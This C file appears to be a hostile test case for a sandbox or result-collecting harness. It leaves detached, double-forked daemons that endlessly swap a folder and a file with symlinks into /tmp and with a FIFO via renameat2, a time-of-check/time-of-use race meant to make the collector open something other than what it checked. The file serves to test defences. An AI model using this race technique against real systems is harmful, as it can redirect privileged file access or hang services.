// A daemon that swaps a folder for a link, and a file for a link and a FIFO, as fast as it can,
// while results are collected: what was checked is not what is opened. It must be dead by then, or
// find nothing to gain.
#include "attack.h"
#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif
static void Swap(const char* a, const char* b) {
  syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
}
int main(void) {
  mkdir("folder", 0755);
  int fd = open("folder/assay-hostile-secret", O_WRONLY | O_CREAT, 0644);
  if (fd < 0 || write(fd, "mine\n", 5) != 5) Broken("folder: %s", strerror(errno));
  fd = open("file", O_WRONLY | O_CREAT, 0644);
  if (fd < 0 || write(fd, "mine\n", 5) != 5) Broken("file: %s", strerror(errno));
  if (symlink("/tmp", "folder.link") != 0 ||
      symlink("/tmp/assay-hostile-secret", "file.link") != 0 || mkfifo("file.fifo", 0666) != 0)
    Broken("links: %s", strerror(errno));
  for (int i = 0; i < 2; ++i) {
    if (fork() == 0) {
      setsid();
      if (fork() != 0) _exit(0);
      for (;;) {
        if (i == 0) Swap("folder", "folder.link");
        if (i == 1) Swap("file", "file.link");
        if (i == 1) Swap("file", "file.fifo");
      }
    }
  }
  SleepMs(50);
  Contained("two racers were left");
}
